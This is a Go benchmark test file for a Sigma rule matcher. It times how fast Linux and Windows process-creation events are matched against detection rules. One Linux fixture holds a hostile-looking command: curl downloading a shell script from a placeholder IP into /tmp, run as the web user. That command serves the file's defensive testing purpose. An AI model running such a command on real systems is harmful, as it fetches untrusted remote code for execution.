package rule

import (
	"fmt"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
)

var windowsProcess = LogSource{Product: "windows", Category: "process_creation"}
var linuxProcess = LogSource{Product: "linux", Category: "process_creation"}

func event(s *Set, source LogSource, fields map[string]string) *Fields {
	f := s.NewFields(source)
	for k, v := range fields {
		f.Put(k, v)
	}
	return f
}

// linuxEvents are processes as servers start them.
func linuxEvents() map[string]map[string]string {
	return map[string]map[string]string{
		"benign": {
			"Image": "/usr/bin/ls", "CommandLine": "ls -la /var/log/nginx", "User": "root", "CurrentDirectory": "/root",
			"ParentImage": "/usr/bin/bash", "ParentCommandLine": "-bash", "LogonId": "3",
		},
		"long": {
			"Image": "/usr/lib/jvm/java-21/bin/java", "User": "app", "CurrentDirectory": "/opt/app",
			"CommandLine": "/usr/lib/jvm/java-21/bin/java -server " + strings.Repeat("-Dservice.option.name=some/value,and:more -XX:+UseG1GC ", 22),
			"ParentImage": "/usr/lib/systemd/systemd", "ParentCommandLine": "/sbin/init", "LogonId": "4294967295",
		},
		"hit": {
			"Image": "/usr/bin/curl", "CommandLine": "curl -s http://192.0.2.7/x.sh -o /tmp/x.sh", "User": "www-data",
			"ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash -c id", "CurrentDirectory": "/tmp",
		},
	}
}

func windowsEvents() map[string]map[string]string {
	return map[string]map[string]string{
		"benign": {
			"Image": `C:\Program Files\Git\cmd\git.exe`, "OriginalFileName": "git.exe", "CommandLine": `"C:\Program Files\Git\cmd\git.exe" status --porcelain`,
			"ParentImage": `C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "ParentCommandLine": `"C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe"`,
			"User": `CORP\dev`, "IntegrityLevel": "Medium", "Description": "Git for Windows", "Product": "Git", "Company": "The Git Development Community",
			"CurrentDirectory": `C:\src\project\`, "Hashes": "SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF",
		},
		"powershell": {
			"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "OriginalFileName": "PowerShell.EXE",
			"CommandLine": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "` + strings.Repeat(`$items = Get-ChildItem -Path C:\Data | Where-Object { $_.Length -gt 1024 }; foreach ($i in $items) { Write-Output $i.FullName }; `, 8) + `"`,
			"ParentImage": `C:\Windows\System32\svchost.exe`, "ParentCommandLine": `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
			"User": `NT AUTHORITY\SYSTEM`, "IntegrityLevel": "System", "Description": "Windows PowerShell", "Product": "Microsoft Windows Operating System", "Company": "Microsoft Corporation",
			"CurrentDirectory": `C:\Windows\system32\`, "Hashes": "SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF",
		},
	}
}

func benchmark(b *testing.B, s *Set, source LogSource, fields map[string]string) {
	m, e := s.NewMatcher(), event(s, source, fields)
	matches := 0
	emit := func(*Rule) { matches++ }
	m.Match(e, emit)
	first := matches
	b.ReportAllocs()
	n, before := 0, processorTime(b)
	for b.Loop() {
		m.Match(e, emit)
		n++
	}
	b.ReportMetric(float64(processorTime(b)-before)/float64(n), "cpu-ns/op")
	b.ReportMetric(float64(first), "matches")
	b.ReportMetric(float64(len(m.states[s.Source(source).programs[0].number].candidates)), "candidates")
}

// processorTime is what this process has used, ns: on a machine that others use too it
// tells more than the time that passes.
func processorTime(b *testing.B) int64 {
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		b.Fatal(err)
	}
	return u.Utime.Nano() + u.Stime.Nano()
}

func BenchmarkMatch(b *testing.B) {
	linux := mustCompile(b, loadShared(b, "sigma/linux/process_creation"))
	for _, name := range []string{"benign", "long", "hit"} {
		b.Run("linux/"+name, func(b *testing.B) { benchmark(b, linux, linuxProcess, linuxEvents()[name]) })
	}
	windows := mustCompile(b, loadShared(b, "sigma/windows/process_creation"))
	for _, name := range []string{"benign", "powershell"} {
		b.Run("windows/"+name, func(b *testing.B) { benchmark(b, windows, windowsProcess, windowsEvents()[name]) })
	}
}

// syntheticRules makes rules that look for words of their own behind common programs.
func syntheticRules(t testing.TB, n int) []*Rule {
	files := fstest.MapFS{}
	for i := range n {
		files[fmt.Sprintf("%05d.yml", i)] = &fstest.MapFile{Data: fmt.Appendf(nil, `
title: Rule %[1]d
id: rule-%[1]d
logsource: {product: linux, category: process_creation}
detection:
  tool:
    Image|endswith: ['/tool%[2]d', '/other%[1]d']
  words:
    CommandLine|contains: ['--option-%[3]x', ' word%[1]d ', 'http://host%[1]d.example/']
  filter:
    ParentImage|startswith: '/opt/vendor%[2]d/'
  condition: tool and words and not filter
`, i, i%97, i*7919)}
	}
	rules, problems := Load(files)
	if len(problems) > 0 {
		t.Fatal(problems[0])
	}
	return rules
}

func BenchmarkRules(b *testing.B) {
	for _, n := range []int{1000, 10_000} {
		s := mustCompile(b, syntheticRules(b, n))
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			benchmark(b, s, linuxProcess, map[string]string{
				"Image": "/usr/bin/tool42", "ParentImage": "/opt/vendor41/agent",
				"CommandLine": "/usr/bin/tool42 --option-3ac0 --file /srv/data/word77 http://host500.example/index.html --verbose",
			})
		})
	}
}
